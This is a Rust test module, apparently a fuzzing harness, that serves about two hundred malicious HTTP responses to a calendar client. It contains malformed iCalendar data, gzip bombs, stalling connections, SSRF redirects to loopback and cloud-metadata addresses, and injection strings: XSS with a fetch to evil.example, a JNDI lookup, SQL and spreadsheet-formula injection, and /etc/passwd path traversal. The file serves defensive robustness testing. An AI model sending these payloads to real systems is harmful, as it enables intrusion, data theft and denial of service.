//! Two hundred ways to harm whoever reads a calendar, and the server that serves them: an answer of HTTP each, byte for
//! byte. Owns what is sent, not what must become of it.

mod server;

pub(crate) use server::Attacker;

use flate2::Compression;
use flate2::write::GzEncoder;
use std::io::Write;

/// What is answered to one question.
#[derive(Clone, Debug)]
pub(crate) enum Attack {
    /// These bytes, and the connection is closed.
    Bytes(Vec<u8>),
    /// These bytes, and then one more every second for ever.
    Drip(Vec<u8>),
    /// These bytes again and again without end.
    Endless(Vec<u8>),
    /// Nothing, and the connection stays.
    Silence,
}

const BEGIN: &str = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//EN\r\n";
const END: &str = "END:VCALENDAR\r\n";

/// All of them.
pub(crate) fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    all.extend(rules().into_iter().map(|rule| calendar(&event(&format!("RRULE:{rule}\r\n")))));
    all.extend(
        times()
            .into_iter()
            .map(|lines| calendar(&format!("BEGIN:VEVENT\r\nUID:1\r\n{lines}SUMMARY:x\r\nEND:VEVENT\r\n"))),
    );
    all.extend(titles().into_iter().map(|title| calendar(&event(&format!("SUMMARY:{title}\r\n")))));
    all.extend(shapes().into_iter().map(|body| calendar(&body)));
    all.extend(encodings().into_iter().map(|body| answer("text/calendar", &body)));
    all.extend(bombs());
    all.extend(redirects());
    all.extend(protocol());
    all
}

fn event(lines: &str) -> String {
    format!("BEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260101T000000Z\r\nDURATION:PT1M\r\n{lines}END:VEVENT\r\n")
}

fn calendar(body: &str) -> Attack {
    answer("text/calendar", format!("{BEGIN}{body}{END}").as_bytes())
}

fn answer(kind: &str, body: &[u8]) -> Attack {
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    Attack::Bytes([head.as_bytes(), body].concat())
}

/// Rules that never end, never begin, or ask for all there is.
fn rules() -> Vec<String> {
    let many = |last: i32| (1..=last).map(|n| n.to_string()).collect::<Vec<_>>().join(",");
    let zero = |last: i32| (0..=last).map(|n| n.to_string()).collect::<Vec<_>>().join(",");
    let mut all: Vec<String> = Vec::new();
    for frequency in ["SECONDLY", "MINUTELY", "HOURLY", "DAILY", "WEEKLY", "MONTHLY", "YEARLY"] {
        all.push(format!("FREQ={frequency};BYSECOND={};BYMINUTE={};BYHOUR={}", zero(59), zero(59), zero(23)));
        all.push(format!("FREQ={frequency};INTERVAL=0"));
        all.push(format!("FREQ={frequency};INTERVAL=999999999999999999999"));
        all.push(format!("FREQ={frequency};COUNT=4294967295"));
        all.push(format!("FREQ={frequency};UNTIL=99991231T235959Z"));
        all.push(format!("FREQ={frequency};BYMONTH=2;BYMONTHDAY=30"));
        all.push(format!("FREQ={frequency};BYSETPOS={};BYYEARDAY={}", many(366), many(366)));
    }
    all.extend(
        [
            "",
            "FREQ",
            "FREQ=",
            "FREQ=NEVER",
            "FREQ=DAILY;FREQ=DAILY",
            "FREQ=DAILY;COUNT=-1",
            "FREQ=YEARLY;BYDAY=-99999MO",
        ]
        .map(str::to_owned),
    );
    all.push(format!("FREQ=DAILY;BYHOUR={}", "1,".repeat(100_000)));
    all
}

/// Times that are none, or lie where nobody has been.
fn times() -> Vec<String> {
    let dates = |property: &str, count: u32| {
        let all: Vec<String> = (0..count)
            .map(|n| format!("2026{:02}{:02}T{:02}{:02}00Z", n % 12 + 1, n % 28 + 1, n % 24, n % 60))
            .collect();
        format!("DTSTART:20260101T000000Z\r\n{property}:{}\r\n", all.join(","))
    };
    let fixed = [
        "DTSTART:00000000T000000\r\n",
        "DTSTART:99991231T235959Z\r\nDURATION:P1D\r\n",
        "DTSTART:20260101T000000Z\r\nDURATION:P99999999999W\r\n",
        "DTSTART:20260101T000000Z\r\nDTEND:19700101T000000Z\r\n",
        "DTSTART:20260230T250000Z\r\n",
        "DTSTART;TZID=../../../etc/passwd:20260101T000000\r\n",
        "DTSTART;TZID=/dev/zero:20260101T000000\r\n",
        "DTSTART;TZID=\"\":20260101T000000\r\n",
        "DTSTART;VALUE=PERIOD:20260101T000000Z/P1D\r\n",
        "DTSTART:\r\n",
        "",
        "DTSTART:20260101T000000Z\r\nDURATION:-P1D\r\n",
        "DTSTART:20260101T000000Z\r\nDURATION:PT9223372036854775807S\r\n",
        "DTSTART;VALUE=DATE:20260101\r\nDTEND;VALUE=DATE:99990101\r\n",
        "DTSTART:2026-01-01T00:00:00Z\r\n",
        "DTSTART:20260101T000000+99:99\r\n",
        "DTSTART:20260101T000000Z\r\nRECURRENCE-ID;RANGE=THISANDFUTURE:20260101T000000Z\r\nRRULE:FREQ=SECONDLY\r\n",
    ];
    let mut all: Vec<String> = fixed.map(str::to_owned).to_vec();
    all.extend([dates("RDATE", 2_001), dates("EXDATE", 100_000), dates("RDATE", 100_000)]);
    all
}

/// Titles that want to be a page, a command, a path, a number, a table's formula.
fn titles() -> Vec<String> {
    let fixed = [
        "<script>alert(1)</script>",
        "<img src=x onerror=fetch('//evil.example')>",
        "\u{202e}zbG 1 doi#",
        "#iod 999999999999G @HQ",
        "#iod -1G @HQ",
        "#iod 1G @HQ'; DROP TABLE change;--",
        "#iod 1e9G @HQ",
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "%s%s%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "\\n\\n\\nBEGIN:VEVENT",
        "#iod 0 @HQ",
        "#iod NaN @HQ",
        "#iod \u{0661}G @HQ",
        "{{7*7}}",
        "#iod 1G @*",
        "#iod 5G @HQ",
        "\u{7}\u{1b}[2J\u{1b}]0;owned",
        "#iod set 5G @HQ",
    ];
    let mut all: Vec<String> = fixed.map(str::to_owned).to_vec();
    all.extend([
        "a".repeat(1_000_000),
        "#iod ".repeat(100_000),
        "\u{1F468}\u{200d}".repeat(50_000),
        "@HQ ".repeat(100_000),
        "#iod 5G @HQ ".repeat(10_000),
    ]);
    all
}

/// Calendars of a wrong shape: deep, wide, cut, without end.
fn shapes() -> Vec<String> {
    let deep = |count: usize| "BEGIN:VEVENT\r\n".repeat(count);
    let mut all = vec![
        deep(9),
        deep(1_000),
        deep(200_000),
        "END:VEVENT\r\n".repeat(200_000),
        format!("{}{}", deep(500), "END:VEVENT\r\n".repeat(499)),
        event("").repeat(50_001),
        format!("X-A:{}\r\n", "b".repeat(9_000_000)),
        format!("X-A:{}\r\n", "b\r\n ".repeat(1_000_000)),
        "X-A;B=C:D\r\n".repeat(500_000),
        format!("X-A;{}:x\r\n", "P=V;".repeat(500_000)),
        "\r\n".repeat(4_000_000),
        " \r\n".repeat(2_000_000),
        ":\r\n".repeat(1_000_000),
        "BEGIN:VTIMEZONE\r\nTZID:x\r\n".repeat(10_000),
        event("ATTACH:data:text/plain;base64,AAAA\r\n"),
        event("ATTACH:file:///etc/passwd\r\n"),
        event("DESCRIPTION:\"\\\\\\n\\,\\;\r\n"),
    ];
    let observances = "BEGIN:STANDARD\r\nDTSTART:19700101T000000\r\nTZOFFSETFROM:+0100\r\nTZOFFSETTO:+0200\r\nRRULE:FREQ=SECONDLY\r\nEND:STANDARD\r\n".repeat(2_000);
    all.push(format!("BEGIN:VTIMEZONE\r\nTZID:Own\r\n{observances}END:VTIMEZONE\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART;TZID=Own:20260101T000000\r\nRRULE:FREQ=MINUTELY\r\nEND:VEVENT\r\n"));
    let overrides: String = (0..20_000).map(|n| format!("BEGIN:VEVENT\r\nUID:1\r\nRECURRENCE-ID:2026{:02}{:02}T000000Z\r\nDTSTART:20260101T000000Z\r\nSEQUENCE:{n}\r\nEND:VEVENT\r\n", n % 12 + 1, n % 28 + 1)).collect();
    all.push(format!("{}{overrides}", event("RRULE:FREQ=DAILY\r\n")));
    let asking: String = (0..5_000).map(|n| format!("BEGIN:VEVENT\r\nUID:{n}\r\nDTSTART:20270101T{:02}0000Z\r\nDURATION:PT1H\r\nSUMMARY:#iod 5G @HQ\r\nEND:VEVENT\r\n", n % 24)).collect();
    all.push(asking);
    all
}

/// Bytes that are no UTF-8, or pretend.
fn encodings() -> Vec<Vec<u8>> {
    let text = format!("{BEGIN}{}{END}", event("SUMMARY:\u{e9}\r\n"));
    let wide = |big: bool| {
        text.encode_utf16()
            .flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() })
            .collect::<Vec<u8>>()
    };
    let broken = |bad: &[u8]| {
        [
            BEGIN.as_bytes(),
            b"BEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260101T000000Z\r\nSUMMARY:",
            bad,
            b"\r\nEND:VEVENT\r\n",
            END.as_bytes(),
        ]
        .concat()
    };
    vec![
        wide(true),
        wide(false),
        [&[0xff, 0xfe][..], &wide(false)].concat(),
        [&[0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf][..], text.as_bytes()].concat(),
        broken(&[0xff; 1000]),
        broken(&[0; 1000]),
        broken(b"\xed\xa0\x80"),
        broken(b"\xf4\x90\x80\x80"),
        broken(b"\xc0\xae\xc0\xae/"),
        vec![0; 5_000_000],
        vec![],
        b"\x89PNG\r\n\x1a\n".to_vec(),
        b"{\"events\":[]}".to_vec(),
        b"<!DOCTYPE html><html><body>Sign in</body></html>".to_vec(),
        text.as_bytes()[..60].to_vec(),
        text.replace("\r\n", "\r").into_bytes(),
        b"PK\x03\x04".repeat(1000),
    ]
}

/// Small on the wire, large when unpacked; or without end.
fn bombs() -> Vec<Attack> {
    let packed = |body: &[u8], times: usize| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        (0..times).for_each(|_| encoder.write_all(body).expect("memory"));
        encoder.finish().expect("memory")
    };
    let sent = |body: Vec<u8>| {
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/calendar\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        Attack::Bytes([head.as_bytes(), &body].concat())
    };
    let zeros = vec![b'0'; 1 << 20];
    let once = packed(&zeros, 64);
    let line = BEGIN.as_bytes().to_vec();
    let head = b"HTTP/1.1 200 OK\r\nContent-Type: text/calendar\r\n\r\n".to_vec();
    vec![
        sent(once.clone()),
        sent(packed(&zeros, 200)),
        sent(packed(&once, 1)),
        sent(packed(&packed(&once, 1), 1)),
        sent(once[..once.len() / 2].to_vec()),
        sent(b"\x1f\x8b\x08\x00".to_vec()),
        sent(vec![7; 100_000]),
        sent(packed(event("").as_bytes(), 500_000)),
        Attack::Drip(head.clone()),
        Attack::Drip([head.as_slice(), &line].concat()),
        Attack::Drip(b"HTTP/1.1 200 OK\r\nX-A: ".to_vec()),
        Attack::Drip(b"H".to_vec()),
        Attack::Endless(line),
        Attack::Endless(b"HTTP/1.1 200 OK\r\n".to_vec()),
        Attack::Endless(b"X-A: b\r\n".to_vec()),
        Attack::Endless(vec![0; 4096]),
        Attack::Silence,
        Attack::Silence,
    ]
}

/// To where nobody may be sent; `LURE` is a server of this computer that must never be asked.
fn redirects() -> Vec<Attack> {
    let targets = [
        "http://LURE/",
        "http://localhost:LUREPORT/",
        "http://[::1]:LUREPORT/",
        "http://[::ffff:127.0.0.1]:LUREPORT/",
        "http://0.0.0.0:LUREPORT/",
        "http://0:LUREPORT/",
        "http://2130706433:LUREPORT/",
        "http://0x7f000001:LUREPORT/",
        "http://127.1:LUREPORT/",
        "http://user:password@LURE/",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/",
        "http://192.168.0.1/",
        "http://172.16.0.1/",
        "http://[fe80::1]/",
        "http://[fd00::1]/",
        "http://100.64.0.1/",
        "file:///etc/passwd",
        "ftp://LURE/",
        "data:text/calendar,BEGIN:VCALENDAR",
        "javascript:alert(1)",
        "gopher://LURE/",
        "//LURE/",
        "http://LURE\\@example.com/",
        "https://LURE/",
        "",
        "http://",
        "http://[",
    ];
    let to = |status: u16, target: &str| {
        format!("HTTP/1.1 {status} Found\r\nLocation: {target}\r\nContent-Length: 0\r\n\r\n").into_bytes()
    };
    let mut all: Vec<Attack> = targets.iter().map(|target| Attack::Bytes(to(302, target))).collect();
    all.extend([301, 303, 307, 308].map(|status| Attack::Bytes(to(status, "http://LURE/"))));
    all.push(Attack::Bytes(to(302, "/0/again"))); // a circle
    all
}

/// Answers that are hardly HTTP, and refusals of every kind.
fn protocol() -> Vec<Attack> {
    let status = |line: &str, headers: &str| {
        Attack::Bytes(
            format!("HTTP/1.1 {line}\r\n{headers}Content-Length: 0\r\nConnection: close\r\n\r\n")
                .into_bytes(),
        )
    };
    let mut all: Vec<Attack> = [
        "401 x", "403 x", "404 x", "410 x", "418 x", "500 x", "502 x", "503 x", "599 x", "999 x", "000 x",
        "-1 x", "304 x", "204 x", "100 x", "101 x",
    ]
    .map(|line| status(line, ""))
    .to_vec();
    for wait in ["0", "-1", "99999999999999999999", "1e308", "never", "Fri, 31 Dec 9999 23:59:59 GMT", "NaN"]
    {
        all.push(status("429 x", &format!("Retry-After: {wait}\r\n")));
    }
    let raw = [
        "",
        "\r\n\r\n",
        "GARBAGE\r\n\r\n",
        "HTTP/9.9 200 OK\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nBEGIN",
        "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nBEGIN",
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n",
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
        "HTTP/1.1 200 OK\r\nETag: \u{0}\r\n\r\n",
        "SSH-2.0-OpenSSH_9\r\n",
        "\u{16}\u{3}\u{1}",
    ];
    all.extend(raw.map(|bytes| Attack::Bytes(bytes.as_bytes().to_vec())));
    all.push(Attack::Bytes(format!("HTTP/1.1 200 OK\r\n{}\r\n", "X-A: b\r\n".repeat(20_000)).into_bytes()));
    all.push(Attack::Bytes(
        format!("HTTP/1.1 200 OK\r\nX-A: {}\r\n\r\n", "b".repeat(5_000_000)).into_bytes(),
    ));
    all.push(Attack::Bytes(
        format!("HTTP/1.1 200 OK\r\nETag: \"{}\"\r\nContent-Length: 0\r\n\r\n", "e".repeat(60_000))
            .into_bytes(),
    ));
    all
}
